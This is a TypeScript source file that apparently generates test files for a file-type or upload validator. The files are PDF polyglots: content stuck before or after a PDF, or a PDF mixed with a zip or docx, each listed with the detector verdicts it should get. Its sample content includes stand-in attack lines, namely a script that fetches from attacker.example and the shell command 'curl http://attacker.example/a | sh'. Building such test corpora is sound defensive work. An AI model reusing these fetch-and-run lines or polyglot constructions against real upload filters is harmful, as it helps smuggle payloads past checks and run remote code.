import { pdfOf } from '../../bytes/raw-pdf.js';
import { storedEntry, zipOf } from '../../bytes/raw-zip.js';
import { joined, latin1, utf8 } from '../../bytes/text-bytes.js';
import type { HostileKind } from '../../hostile-kind.js';
import { noise } from '../../sender.js';
import { document, entriesOf, OFFICE_FAMILIES, packed, WORD } from '../../twins/office.js';
import { pdfObjects, validPdf } from '../../twins/pdf.js';

const HTML = '<html><body><script>fetch("http://attacker.example/")</script><!--\n';

const BEFORE: readonly ((seed: number) => Uint8Array)[] = [
  () => utf8(HTML),
  () => utf8('<!DOCTYPE html><title>a</title><script src="http://attacker.example/a.js"></script>\n'),
  () => utf8('#!/bin/sh\ncurl http://attacker.example/a | sh\nexit\n'),
  (seed) => joined('MZ', noise(seed, 510)),
  () => utf8('\n'.repeat(900)),
  (seed) => noise(seed, 1_000),
];

/** Readers of PDF look for the header in the first 1,024 bytes; what stands before it is for somebody else. */
export const PDF_HEADER_LATE: HostileKind = {
  kind: 'pdf-header-late',
  what: 'A page, a script, a program or noise stands in front of the header of a PDF.',
  source: 'Albertini, "Abusing file formats", PoC||GTFO 0x07, 2015; Adobe, PDF Reference 1.7, appendix H, note 13',
  *files(sender) {
    for (const before of BEFORE) {
      for (const isCounted of [true, false]) {
        const { number, name, seed } = sender.letter('pdf');
        yield {
          name,
          expected: ['polyglot', 'type-refused', 'name-mismatch'],
          content: () => (isCounted ? pdfOf(pdfObjects(number), { before: before(seed) }) : joined(before(seed), validPdf(number))),
        };
      }
    }
  },
};

/** A file that is a PDF from its beginning and a package from its end. */
export const PDF_AND_ZIP: HostileKind = {
  kind: 'pdf-and-zip',
  what: 'A docx, xlsx or plain zip stands behind a PDF; under the name of either.',
  source: 'Albertini, "Abusing file formats", PoC||GTFO 0x07, 2015; CWE-434',
  *files(sender) {
    for (const family of OFFICE_FAMILIES) {
      for (const extension of ['pdf', family.extension]) {
        for (const isCounted of [true, false]) {
          const { number, name } = sender.letter(extension);
          yield {
            name,
            expected: extension === 'pdf' ? ['polyglot'] : ['polyglot', 'name-mismatch'],
            content: () =>
              isCounted
                ? zipOf(entriesOf(family.parts(number)), { before: validPdf(number) })
                : joined(validPdf(number), document(family, number)),
          };
        }
      }
    }
    const { number, name } = sender.letter('pdf');
    yield { name, expected: ['polyglot'], content: () => joined(validPdf(number), packed(new Map([['evil.exe', 'MZ']]))) };
  },
};

/** A PDF inside the first part of a package, unpacked, so that its header stands within the first 1,024 bytes. */
export const PDF_IN_ZIP_HEAD: HostileKind = {
  kind: 'pdf-in-zip-head',
  what: 'A docx whose first part is a whole PDF, not compressed; under the name of a docx or a PDF.',
  source: 'Albertini, "Abusing file formats", PoC||GTFO 0x07, 2015',
  *files(sender) {
    for (const extension of ['docx', 'pdf']) {
      const { number, name } = sender.letter(extension);
      yield {
        name,
        expected: extension === 'pdf' ? ['polyglot', 'nested-archive', 'name-mismatch'] : ['polyglot', 'nested-archive'],
        content: () => zipOf([storedEntry('word/media/image1.png', validPdf(number)), ...entriesOf(WORD.parts(number))]),
      };
    }
  },
};

/** Behind the end of a PDF, more than the line end that writers leave. */
export const DATA_AFTER_PDF: HostileKind = {
  kind: 'data-after-pdf',
  what: 'A page, a program or noise stands behind the end of a PDF.',
  source: 'Albertini, "Abusing file formats", PoC||GTFO 0x07, 2015; CWE-434',
  *files(sender) {
    const tails = [() => utf8(HTML.repeat(30)), (seed: number) => joined('MZ', noise(seed, 4_000)), (seed: number) => noise(seed, 100_000)];
    for (const tail of [...tails, () => joined(latin1('\x7fELF\x02\x01\x01'), new Uint8Array(4_000))]) {
      const { number, name, seed } = sender.letter('pdf');
      yield { name, expected: ['polyglot', 'damaged'], content: () => joined(validPdf(number), tail(seed)) };
    }
  },
};
